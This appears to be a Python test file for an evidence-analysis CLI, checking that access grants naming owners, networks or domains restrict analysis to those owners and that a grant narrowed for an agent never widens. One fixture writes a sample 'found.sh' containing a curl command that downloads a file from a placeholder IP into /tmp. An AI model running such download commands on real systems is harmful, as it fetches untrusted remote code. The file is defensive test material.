#!/usr/bin/env python3
"""What a grant is good for beside its pack: the owners of evidence it names, and nobody else's.

usage: tests/cli/scope.py TOCSIN ENTITLE [NAME...]"""

import json
import sys

from person import CASES, case, main, one_line
from group import data, other, refused
from grants import NAME, SAMPLE, issue, member, officers
from why import answers, why

CASES.clear()
OWNERS = ("owner=The hospital", "owner=The clinic", "network=198.51.100.0/24", "domain=hospital.example")


def granted(person, group, hospital, *assets):
    words = [word for asset in assets for word in ("--asset", asset)]
    hospital.run("access", "request", "--pack", "sample-pack", "--hours", "4", "--reason", "an incident", *words,
                 "--out", "hospital.request")
    said = data(group, "request", "--in", "hospital.request", "--out", "hospital.draft")
    file = "hospital.draft"
    for number, officer in enumerate(officers(person)):
        seen = officer.run("access", "approve", file, "--group", "group.card", "--out", f"approved{number}").out
        file = f"approved{number}"
    issue(person, group, file, "hospital.grant")
    hospital.run("access", "accept", "hospital.grant")
    return said, seen


def ready(person, *assets):
    group, hospital = member(person)
    recipient = hospital.run("access", "recipient").out.strip()
    group.run("access", "seal", SAMPLE, "--to", recipient, "--group", "group.card", "--out", "sample.age")
    said, seen = granted(person, group, hospital, *assets)
    hospital.run("access", "accept", "sample.age")
    person.file("found.sh", "curl -s http://192.0.2.201/a -o /tmp/a\n")
    return group, hospital, said, seen


def analyze(somebody, *words, status=1):
    return somebody.run("analyze", "--pack", "sample-pack", "--format", "json", *words, "found.sh", status=status)


def rule(somebody, *words):
    found = json.loads(analyze(somebody, *words, status=2).err.splitlines()[-1])["refused"]
    return found["reason"], found["rule"]


@case
def a_grant_that_names_owners_is_for_their_evidence_alone(person):
    group, hospital, said, seen = ready(person, *OWNERS)
    assert said["assets"] == [{"kind": asset.split("=")[0], "name": asset.split("=")[1]} for asset in OWNERS]
    for words in ("of evidence  of The hospital", "of assets    network 198.51.100.0/24"):
        assert words in seen, seen  # what the officers approve
    assert rule(hospital) == ("out_of_scope", "evidence-has-an-owner")
    assert rule(hospital, "--evidence-owner", "The school") == ("out_of_scope", "evidence-is-of-an-owner-in-scope")
    found = why(hospital, hospital.last()["sequence"])
    assert answers(found) == ("same", "same") and found["rule"] == "evidence-is-of-an-owner-in-scope", found
    for owner in ("The hospital", "The clinic"):
        told = analyze(hospital, "--evidence-owner", owner).err
        assert f"is of {owner} is what you said: it is recorded, and nobody checked it" in told, told
        assert "also names 2 hosts, networks or domains" in told, told
    used = [entry for entry in hospital.entries() if entry["operation"] == "model.pack" and entry["event"] == "allowed"
            and "decision" not in entry][-1]
    assert used["arguments"][used["arguments"].index("--evidence-owner") + 1] == "The clinic"
    assert answers(why(hospital, used["sequence"])) == ("same", "same")


@case
def a_grant_that_names_none_is_for_anybodys(person):
    group, hospital, said, _ = ready(person)
    assert said["assets"] == []
    analyze(hospital)
    told = analyze(hospital, "--evidence-owner", "Anybody").err
    assert "nobody checked it" in told and "also names" not in told
    assert "owner, host, network or domain" in one_line(
        hospital.run("access", "request", "--pack", "x", "--hours", "1", "--reason", "x", "--asset", "city=Rome", "--out",
                     "x", status=2).err)
    for asset in ("owner=", "=x", "owner"):
        hospital.run("access", "request", "--pack", "x", "--hours", "1", "--reason", "x", "--asset", asset, "--out", "x",
                     status=2)


@case
def what_an_agent_is_left_is_less_and_never_more(person):
    group, hospital, _, _ = ready(person, *OWNERS)
    agent = other(person, "agent")
    agent.run("access", "card", "--name", "night watch", "--out", "agent.card")
    narrow = ("narrow", "--agent", "agent.card", "--minutes", "10", "--calls", "9")
    assert refused(hospital, *narrow, "--evidence-owner", "The school", "--out", "x") == "evidence-is-of-an-owner-in-scope"
    hospital.run("access", *narrow, "--evidence-owner", "The clinic", "--out", "agent.grant")
    agent.run("access", "accept", "agent.grant", "--group", "group.card")
    assert rule(agent) == ("out_of_scope", "evidence-has-an-owner")
    assert rule(agent, "--evidence-owner", "The hospital") == ("out_of_scope", "narrowing-holds")
    # The pack is not here, and so it goes no further than the grant.
    said = analyze(agent, "--evidence-owner", "The clinic", status=2).err
    assert "out_of_scope" not in said, said


if __name__ == "__main__":
    sys.exit(main(sys.argv[3:]))
